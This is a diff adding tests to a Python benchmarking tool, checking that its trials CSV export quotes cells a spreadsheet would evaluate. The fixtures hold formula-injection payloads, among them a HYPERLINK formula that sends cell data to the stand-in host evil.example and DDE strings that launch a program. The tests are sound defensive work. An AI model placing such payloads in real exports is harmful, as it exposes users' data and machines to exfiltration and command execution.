@@ -4,7 +4,11 @@ shown")."""
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 import os
+import re
 import socket
 import subprocess
 import sys
@@ -17,6 +21,9 @@ from click.testing import CliRunner
 from fmbench.cli import main
 from fmbench.project import PROJECT_FILE, ProjectError, parse_config
 from fmbench.redaction import library_message, redact
+from fmbench.views.data import spreadsheet_cell
+
+from testdata import FIXTURES
 
 SECRET = "wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY"
 """A secret a user put in a location: it must never be printed or published."""
@@ -178,3 +185,54 @@ def test_a_library_error_reading_object_storage_is_one_line_without_its_tracebac
     assert "Traceback" not in done.stderr and len(done.stderr.strip().splitlines()) == 1, done.stderr
     assert done.stderr.startswith("Error: s3://Not_A:Bucket/p: ")
 
+
+
+# --- the trials CSV ---------------------------------------------------------------------------------------------
+
+FORMULAS = {
+    "id": '=HYPERLINK("http://evil.example/?"&A1,"open")',
+    0: "@SUM(1+1)*cmd|' /C calc'!A0",
+    1: "-2+3+cmd|' /C calc'!A0",
+    2: "+1+1",
+    3: "\t=1+1",
+    4: "\r=1+1",
+    5: "=1+1",
+}
+
+
+def _run_with_formulas(folder: Path) -> Path:
+    source = FIXTURES / "iphone-17-pro-ios27-24a5256a-on-device-performance-2026-10-29.json"
+    doc = json.loads(source.read_text(encoding="utf-8"))
+    trials = doc["trials"]
+    trials[0]["id"] = FORMULAS["id"]
+    for i in range(6):
+        trials[i]["response"] = FORMULAS[i]
+    trials[6]["response"] = "-42"
+    target = folder / "formulas.json"
+    target.write_text(json.dumps(doc), encoding="utf-8")
+    return target
+
+
+def test_the_trials_csv_neutralises_every_cell_a_spreadsheet_would_evaluate(tmp_path: Path) -> None:
+    db = tmp_path / "db.duckdb"
+    assert _cli("ingest", str(_run_with_formulas(tmp_path)), "--db", str(db))[0] == 0
+    code, out = _cli("export", "--db", str(db), "--trials-csv", str(tmp_path / "csv"))
+    assert code == 0, out
+    (written,) = sorted((tmp_path / "csv").glob("*.trials.csv"))
+    rows = list(csv.DictReader(io.StringIO(written.read_bytes().decode("utf-8"), newline="")))
+    assert rows[0]["trial_id"] == "'" + FORMULAS["id"]
+    assert [r["response"] for r in rows[:7]] == ["'" + FORMULAS[i] for i in range(6)] + ["-42"]
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
+            assert not cell.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", cell), (column, cell)
+    assert float(rows[0]["duration"]) > 0  # numbers stay numbers
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [("=1+1", "'=1+1"), ("@x", "'@x"), ("+x", "'+x"), ("-x", "'-x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+     ("-42", "-42"), ("+1.5e3", "+1.5e3"), (-1.5, -1.5), (-3, -3), (None, None), (True, True), ("a=1", "a=1")],
+)
+def test_a_spreadsheet_cell_is_quoted_only_when_it_would_be_a_formula(value: object, cell: object) -> None:
+    assert spreadsheet_cell(value) == cell
